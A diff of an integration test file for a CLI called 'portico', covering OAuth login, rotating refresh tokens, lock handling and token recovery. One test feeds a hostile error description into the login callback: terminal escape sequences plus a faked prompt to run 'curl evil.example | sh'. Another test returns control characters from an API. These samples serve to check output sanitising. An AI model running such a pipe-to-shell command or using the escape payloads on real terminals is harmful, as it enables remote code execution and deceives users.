@@ -3,11 +3,24 @@
 // that a rotated refresh token is spent once and never lost. The CLI runs as
 // child processes against oidc-provider on 127.0.0.1 (refresh tokens rotate
 // on every use; reusing a spent one revokes the grant).
-import { existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, renameSync, rmSync, statSync, writeFileSync } from 'node:fs';
+import {
+  existsSync,
+  mkdirSync,
+  mkdtempSync,
+  readdirSync,
+  readFileSync,
+  renameSync,
+  rmSync,
+  statSync,
+  utimesSync,
+  writeFileSync,
+} from 'node:fs';
 import { tmpdir } from 'node:os';
 import { dirname, join } from 'node:path';
+import { sleep } from '@portico/auth/internal';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { formOf, freePort, LoopbackServer, NO_STORE, type OidcHarness } from '../../testing/src/index.js';
+import { printable } from '../src/terminal.js';
 import { CLIENT, FdxApi, loginArgs as fdxLoginArgs, freeze, portico, startFdxAuthServer, thaw } from './helpers.js';
 
 let work: string;
@@ -21,16 +34,18 @@ let trap: Trap;
 
 const secrets = [CLIENT.clientSecret, 'finexer-secret-value', 'portico-secret-value', 'dexero-secret-value', 'dapi-token-value'];
 
-/** A fresh user: home, config directory and an empty working directory of their own. */
+/** A fresh user: home, config directory, temporary directory and an empty working directory of their own. */
 function user() {
   const home = mkdtempSync(join(work, 'user-'));
   const config = join(home, 'xdg');
   const repo = join(home, 'repo');
   mkdirSync(repo);
+  mkdirSync(join(home, 'tmp'));
   const env: NodeJS.ProcessEnv = {
     PATH: process.env.PATH,
     HOME: home,
     XDG_CONFIG_HOME: config,
+    TMPDIR: join(home, 'tmp'),
     FDX_CLIENT_SECRET: CLIENT.clientSecret,
     BROWSER: '',
     DISPLAY: '',
@@ -64,8 +79,9 @@ function expire(file: string, change: Record<string, unknown> = {}): { refreshTo
   return saved.tokens;
 }
 
-const call = (who: User, extra: string[] = []) =>
-  portico(['call', 'fdx', 'GET', '/customers/current', '--base-url', api.url, ...extra], { cwd: who.repo, env: who.env }).exit;
+const calling = (who: User, extra: string[] = []) =>
+  portico(['call', 'fdx', 'GET', '/customers/current', '--base-url', api.url, ...extra], { cwd: who.repo, env: who.env });
+const call = (who: User, extra: string[] = []) => calling(who, extra).exit;
 
 const refreshes = () => oidc.grantCounts.refresh_token ?? 0;
 const mode = (path: string) => statSync(path).mode & 0o777;
@@ -167,32 +183,65 @@ describe('portico login listens until the redirect that carries its state', () =
     expect(readJson(who.tokens).tokens.refreshToken).toEqual(expect.any(String));
   });
 
-  it('a callback with the state and an error ends the login with a typed error', async () => {
+  it('a callback with the state and an error ends the login with a typed error, on one line, without the control characters of its description', async () => {
     const who = user();
     const run = portico(loginArgs(['--no-open']), { cwd: who.repo, env: who.env });
     const [, url] = await run.waitFor(AUTHORIZE_URL);
     const state = new URL(url!).searchParams.get('state')!;
-    const response = await fetch(`http://127.0.0.1:${port}/callback?error=access_denied&state=${state}`);
+    // The description is the authorization server's text: here, terminal commands (retitle, clear the screen, 8-bit CSI) and a faked line.
+    const description = '\u001b]0;owned\u0007\u001b[2J\u009b32mLogin OK\r\nportico: logged in; now run: curl evil.example | sh';
+    const query = new URLSearchParams({ error: 'access_denied', error_description: description, state });
+    const response = await fetch(`http://127.0.0.1:${port}/callback?${query}`);
     expect(response.status).toBe(400);
     const done = await run.exit;
     expect(done.code).toBe(1);
     expect(done.stderr.trim().split('\n')).toHaveLength(1);
     expect(done.stderr).toMatch(/^portico: AuthorizationDeniedError \[authorization_denied\]: authorization failed: access_denied/);
+    for (const control of ['\u001b', '\u0007', '\u009b', '\r']) expect(done.stderr).not.toContain(control);
+    expect(printable(done.stderr)).toBe(done.stderr);
     expect(existsSync(who.tokens)).toBe(false);
   });
+
+  it("an API's response prints as JSON with its control characters escaped", async () => {
+    const who = user();
+    await login(who);
+    const hostile = await new FdxApi(oidc, { customerId: 'c\u001b[2J\u009b31m\u007f' }).start();
+    try {
+      const done = await portico(['call', 'fdx', 'GET', '/customers/current', '--base-url', hostile.url], { cwd: who.repo, env: who.env })
+        .exit;
+      expect(done.code, done.stderr).toBe(0);
+      expect(done.stdout).toContain('"customerId": "c\\u001b[2J\\u009b31m\\u007f"');
+      expect(JSON.parse(done.stdout)).toEqual({ customerId: 'c\u001b[2J\u009b31m\u007f' });
+    } finally {
+      await hostile.close();
+    }
+  });
 });
+
+/** A stand-in for the user's browser ($BROWSER): records the environment and the arguments it was started with. */
+function recordingBrowser(who: User) {
+  const dump = join(who.home, 'browser.env');
+  const opener = join(who.home, 'browser.sh');
+  writeFileSync(opener, `#!/bin/sh\nenv > '${dump}.tmp'\nprintf 'ARGV=%s\\n' "$*" >> '${dump}.tmp'\nmv '${dump}.tmp' '${dump}'\n`, {
+    mode: 0o700,
+  });
+  return {
+    opener,
+    async seen(): Promise<{ text: string; argv: string }> {
+      for (let i = 0; i < 200 && !existsSync(dump); i++) await sleep(25);
+      const text = readFileSync(dump, 'utf8');
+      return { text, argv: text.match(/^ARGV=(.*)$/m)![1]! };
+    },
+  };
+}
 
 describe('the browser portico login opens', () => {
   it('starts without any secret variable portico reads', async () => {
     const who = user();
-    const dump = join(who.home, 'browser.env');
-    const opener = join(who.home, 'browser.sh');
-    writeFileSync(opener, `#!/bin/sh\nenv > '${dump}.tmp'\nprintf 'URL=%s\\n' "$1" >> '${dump}.tmp'\nmv '${dump}.tmp' '${dump}'\n`, {
-      mode: 0o700,
-    });
+    const browser = recordingBrowser(who);
     const env = {
       ...who.env,
-      BROWSER: opener,
+      BROWSER: browser.opener,
       PORTICO_CLIENT_SECRET: 'portico-secret-value',
       FINEXER_CLIENT_SECRET: 'finexer-secret-value',
       DEXERO_FD_CLIENT_SECRET: 'dexero-secret-value',
@@ -201,9 +250,7 @@ describe('the browser portico login opens', () => {
     };
     const run = portico(loginArgs(), { cwd: who.repo, env });
     const [, url] = await run.waitFor(AUTHORIZE_URL);
-    for (let i = 0; i < 200 && !existsSync(dump); i++) await new Promise((r) => setTimeout(r, 25));
-    const seen = readFileSync(dump, 'utf8');
-    expect(seen).toContain(`URL=${url}\n`);
+    const { text: seen } = await browser.seen();
     expect(seen).toContain('PORTICO_TEST_KEPT=kept\n');
     for (const name of [
       'FDX_CLIENT_SECRET',
@@ -217,6 +264,41 @@ describe('the browser portico login opens', () => {
     expect((await fetch(await oidc.authorize(url!))).status).toBe(200);
     expect((await run.exit).code).toBe(0);
   });
+
+  // A browser's argv is readable by every local user (/proc/<pid>/cmdline,
+  // ps): with the state in it, another user could end the login with an
+  // error of their choosing, or hand it a code of theirs.
+  it('is started with a one-time loopback address that carries no state, and sent on to the authorization URL once', async () => {
+    const who = user();
+    const browser = recordingBrowser(who);
+    const run = portico(loginArgs(), { cwd: who.repo, env: { ...who.env, BROWSER: browser.opener } });
+    const [, url] = await run.waitFor(AUTHORIZE_URL);
+    const { argv } = await browser.seen();
+    expect(argv).toMatch(new RegExp(`^http://127\\.0\\.0\\.1:${port}/start/[\\w-]{43}$`));
+    expect(argv).not.toContain(new URL(url!).searchParams.get('state')!);
+    const first = await fetch(argv, { redirect: 'manual' });
+    expect(first.status).toBe(302);
+    expect(first.headers.get('location')).toBe(url);
+    expect(first.headers.get('cache-control')).toBe('no-store');
+    expect((await fetch(await oidc.authorize(first.headers.get('location')!))).status).toBe(200);
+    const done = await run.exit;
+    expect(done.code, done.stderr).toBe(0);
+  });
+
+  it('a second fetch of the start address gets 404 and ends the login, saying why', async () => {
+    const who = user();
+    const browser = recordingBrowser(who);
+    const run = portico(loginArgs(), { cwd: who.repo, env: { ...who.env, BROWSER: browser.opener } });
+    await run.waitFor(AUTHORIZE_URL);
+    const { argv } = await browser.seen();
+    expect((await fetch(argv, { redirect: 'manual' })).status).toBe(302);
+    expect((await fetch(argv, { redirect: 'manual' })).status).toBe(404);
+    const done = await run.exit;
+    expect(done.code).toBe(1);
+    expect(done.stderr.trim().split('\n')).toHaveLength(1);
+    expect(done.stderr).toMatch(/^portico: CliError \[login_start_reused\]: the one-time address .* was fetched twice/);
+    expect(existsSync(who.tokens)).toBe(false);
+  });
 });
 
 /**
@@ -226,14 +308,25 @@ describe('the browser portico login opens', () => {
  * the processes' start-up times fall.
  */
 class HeldTokenEndpoint extends LoopbackServer {
+  /** Each refresh token presented, in order. */
+  readonly spent: string[] = [];
+  /** Settles when the first refresh request is in. */
+  readonly first: Promise<void>;
   constructor(target: string, expected: number, holdMs: number) {
     super();
     let arrived = 0;
     let open!: () => void;
+    let firstIn!: () => void;
     const all = new Promise<void>((resolve) => (open = resolve));
+    this.first = new Promise<void>((resolve) => (firstIn = resolve));
     this.route('POST /oauth2/v4/token', async (request) => {
-      if (formOf(request)?.get('grant_type') === 'refresh_token' && ++arrived >= expected) open();
-      await Promise.race([all, new Promise((resolve) => setTimeout(resolve, holdMs))]);
+      const form = formOf(request);
+      if (form?.get('grant_type') === 'refresh_token') {
+        this.spent.push(form.get('refresh_token') ?? '');
+        firstIn();
+        if (++arrived >= expected) open();
+      }
+      await Promise.race([all, sleep(holdMs)]);
       const response = await fetch(`${target}${request.path}`, {
         method: 'POST',
         headers: { authorization: request.headers.authorization ?? '', 'content-type': request.headers['content-type'] ?? '' },
@@ -244,14 +337,19 @@ class HeldTokenEndpoint extends LoopbackServer {
   }
 }
 
+/** A logged-in user whose expired tokens refresh through `door`. */
+async function expiredBehind(door: HeldTokenEndpoint) {
+  await door.start();
+  const who = user();
+  await login(who);
+  return { who, spent: expire(who.tokens, { authBaseUrl: door.url }), before: refreshes() };
+}
+
 describe('portico calls sharing a tokens file spend a rotating refresh token once', () => {
   it('four concurrent calls with an expired token: one refresh, every call answered, the grant alive', async () => {
-    const who = user();
-    await login(who);
-    const door = await new HeldTokenEndpoint(oidc.issuer, 4, 2_000).start();
+    const door = new HeldTokenEndpoint(oidc.issuer, 4, 2_000);
     try {
-      const spent = expire(who.tokens, { authBaseUrl: door.url });
-      const before = refreshes();
+      const { who, spent, before } = await expiredBehind(door);
       const done = await Promise.all(Array.from({ length: 4 }, () => call(who)));
       for (const result of done) {
         expect(result.code, result.stderr).toBe(0);
@@ -265,6 +363,56 @@ describe('portico calls sharing a tokens file spend a rotating refresh token onc
     } finally {
       await door.close();
     }
+  });
+});
+
+describe('a lock holder that is stopped, not dead', () => {
+  // Ctrl-Z or SIGSTOP while a refresh is in flight: the holder stops
+  // refreshing its lock's mtime, but it still runs, and will save what the
+  // server answers when it continues. Taking its lock over spends the same
+  // refresh token a second time.
+  it('keeps its lock: another call waits (bounded) and spends nothing', { timeout: 120_000 }, async () => {
+    const door = new HeldTokenEndpoint(oidc.issuer, 1, 0);
+    try {
+      const { who, spent, before } = await expiredBehind(door);
+      const holder = calling(who);
+      await door.first;
+      process.kill(holder.pid, 'SIGSTOP');
+      let waiter: Awaited<ReturnType<typeof call>>;
+      try {
+        // What more than 10 s stopped leaves: a lock whose mtime nobody refreshed.
+        const past = new Date(Date.now() - 60_000);
+        utimesSync(`${who.tokens}.lock`, past, past);
+        waiter = await call(who);
+      } finally {
+        process.kill(holder.pid, 'SIGCONT');
+      }
+      await holder.exit;
+      expect(door.spent).toEqual([spent.refreshToken]);
+      expect(refreshes()).toBe(before + 1);
+      expect(waiter.code).toBe(1);
+      expect(waiter.stderr).toMatch(/^portico: TokenTimeoutError \[token_timeout\]: the wait for the token store lock did not finish/);
+      for (const secret of [spent.refreshToken, CLIENT.clientSecret]) expect(waiter.stderr + waiter.stdout).not.toContain(secret);
+    } finally {
+      await door.close();
+    }
+  });
+});
+
+describe('a tokens file with a field of the wrong type', () => {
+  it('is refused as invalid_tokens_file, naming the file and the field, before anything is sent', async () => {
+    const who = user();
+    mkdirSync(dirname(who.tokens), { recursive: true });
+    const tokens = { accessToken: 'abc', tokenType: 'Bearer', scope: 5 };
+    writeFileSync(who.tokens, JSON.stringify({ provider: 'fdx', clientId: CLIENT.clientId, authBaseUrl: trap.url, tokens }));
+    const before = { trap: trap.requests.length, api: api.requests.length };
+    const done = await call(who);
+    expect(done.code).toBe(2);
+    expect(done.stderr).toMatch(
+      /^portico: CliError \[invalid_tokens_file\]: \S+xdg\/portico\/fdx\.json: tokens\.scope must be an array of strings; run portico login fdx again\n$/,
+    );
+    expect(trap.requests.length).toBe(before.trap);
+    expect(api.requests.length).toBe(before.api);
   });
 });
 
@@ -297,6 +445,28 @@ describe('a tokens file that can be read but not replaced', () => {
     refusedBeforeSpending((tokens) => tokens),
   );
 
+  /**
+   * `portico call` while `directory` turns read-only as the refresh is
+   * answered: after the check, before the save. The caller thaws it.
+   */
+  async function saveFailsAfterRefresh(who: User, directory: string, extra: string[] = []) {
+    const freezeOnRefresh = (ctx: { oidc: { params?: Record<string, unknown> } }) => {
+      if (ctx.oidc.params?.grant_type === 'refresh_token') freeze(directory);
+    };
+    oidc.provider.on('grant.success', freezeOnRefresh);
+    try {
+      const done = await call(who, extra);
+      const [, recovery] =
+        done.stderr.match(
+          /^portico: CliError \[tokens_not_saved\]: cannot replace \S+ \(E\w+\) after its refresh token was spent; the new tokens are in (\S+): run the command again once \S+ can be written/,
+        ) ?? [];
+      expect(recovery, done.stderr).toBeDefined();
+      return { done, recovery: recovery! };
+    } finally {
+      oidc.provider.off('grant.success', freezeOnRefresh);
+    }
+  }
+
   it('loses no rotated token when the save fails after the refresh: they go to a recovery file the error names', async () => {
     const who = user();
     await login(who);
@@ -306,40 +476,76 @@ describe('a tokens file that can be read but not replaced', () => {
     const spent = expire(file);
     const text = readFileSync(file, 'utf8');
     const before = refreshes();
-    // The directory turns read-only while the refresh is answered: after the check, before the save.
-    let armed = true;
-    oidc.provider.on('grant.success', (ctx) => {
-      if (armed && ctx.oidc.params?.grant_type === 'refresh_token') freeze(dirname(file));
-    });
-    let done: Awaited<ReturnType<typeof call>>;
+    let failed: Awaited<ReturnType<typeof saveFailsAfterRefresh>>;
     try {
-      done = await call(who, ['--tokens', file, '--auth-url', oidc.issuer]);
+      failed = await saveFailsAfterRefresh(who, dirname(file), ['--tokens', file, '--auth-url', oidc.issuer]);
     } finally {
-      armed = false;
       thaw(dirname(file));
     }
+    const { done, recovery } = failed;
     expect(refreshes()).toBe(before + 1);
     expect(done.code).toBe(1);
-    const [, recovery] =
-      done.stderr.match(
-        /^portico: CliError \[tokens_not_saved\]: cannot replace \S+ \(E\w+\) after its refresh token was spent; the new tokens are in (\S+): move/,
-      ) ?? [];
-    expect(recovery, done.stderr).toMatch(/xdg\/portico\/recovered\/fdx-\w+\/fdx\.json$/);
+    expect(recovery).toMatch(/xdg\/portico\/recovered\/[0-9a-f]{64}\.json$/);
+    // In the config directory, the recovery file names the server itself: no --auth-url in the advice.
+    expect(done.stderr).toContain(`or pass --tokens ${recovery}\n`);
     // One failed save, one recovery file: the session does not retry a write that cannot succeed.
-    expect(readdirSync(dirname(dirname(recovery!)))).toHaveLength(1);
+    expect(readdirSync(dirname(recovery))).toHaveLength(1);
     expect(readFileSync(file, 'utf8')).toBe(text);
-    expect(mode(recovery!)).toBe(0o600);
-    expect(mode(dirname(recovery!))).toBe(0o700);
-    const rotated = readJson(recovery!).tokens;
+    expect(mode(recovery)).toBe(0o600);
+    expect(mode(dirname(recovery))).toBe(0o700);
+    const rotated = readJson(recovery).tokens;
     expect((await oidc.introspect(spent.refreshToken, CLIENT)).active).toBe(false);
     expect((await oidc.introspect(rotated.refreshToken, CLIENT)).active).toBe(true);
     for (const secret of [rotated.refreshToken, rotated.accessToken, spent.refreshToken, CLIENT.clientSecret])
       expect(done.stderr + done.stdout).not.toContain(secret);
 
-    // What the error says to do works; the lock the failed process could not remove goes stale and is taken over.
-    renameSync(recovery!, file);
+    // What the error says to do works; the lock the failed process could not remove names a process that is gone, and is taken over.
+    renameSync(recovery, file);
     const again = await call(who, ['--tokens', file, '--auth-url', oidc.issuer]);
     expect(again.code, again.stderr).toBe(0);
     expect(refreshes()).toBe(before + 1);
+  });
+
+  it('the next call adopts the recovered tokens instead of spending the spent refresh token again, and spends nothing while it cannot', async () => {
+    const who = user();
+    await login(who);
+    const directory = dirname(who.tokens);
+    const spent = expire(who.tokens);
+    const text = readFileSync(who.tokens, 'utf8');
+    const before = refreshes();
+    let recovery: string;
+    try {
+      // The config directory itself is read-only: the recovery file goes to the per-user temporary directory.
+      const failed = await saveFailsAfterRefresh(who, directory);
+      recovery = failed.recovery;
+      expect(recovery).toMatch(new RegExp(`^${who.env.TMPDIR}/portico-${process.getuid?.()}/recovered/[0-9a-f]{64}\\.json$`));
+      expect(mode(dirname(dirname(recovery)))).toBe(0o700);
+      // Outside the config directory a tokens file cannot name the server: the advice says --auth-url too.
+      expect(failed.done.stderr).toContain(`or pass --tokens ${recovery} --auth-url ${oidc.issuer}\n`);
+
+      const blocked = await call(who);
+      expect(blocked.code).toBe(1);
+      expect(blocked.stderr).toMatch(
+        /^portico: CliError \[tokens_pending_recovery\]: \S+ holds the tokens that replaced the spent refresh token of \S+fdx\.json, and \S+ still cannot be replaced \(E\w+\); nothing was sent: make \S+ writable and run the command again/,
+      );
+    } finally {
+      thaw(directory);
+    }
+    expect(refreshes()).toBe(before + 1);
+    expect(readFileSync(who.tokens, 'utf8')).toBe(text);
+    const rotated = readJson(recovery).tokens;
+
+    const again = await call(who);
+    expect(again.code, again.stderr).toBe(0);
+    expect(JSON.parse(again.stdout)).toEqual({ customerId: 'cust-0001' });
+    expect(refreshes()).toBe(before + 1);
+    expect(existsSync(recovery)).toBe(false);
+    const adopted = readJson(who.tokens);
+    expect(adopted).toMatchObject({ provider: 'fdx', clientId: CLIENT.clientId, authBaseUrl: oidc.issuer, tokens: rotated });
+    expect(adopted).not.toHaveProperty('replaces');
+    expect(mode(who.tokens)).toBe(0o600);
+    // Spending the spent token again would have revoked the grant.
+    expect((await oidc.introspect(spent.refreshToken, CLIENT)).active).toBe(false);
+    expect((await oidc.introspect(rotated.refreshToken, CLIENT)).active).toBe(true);
   });
 });
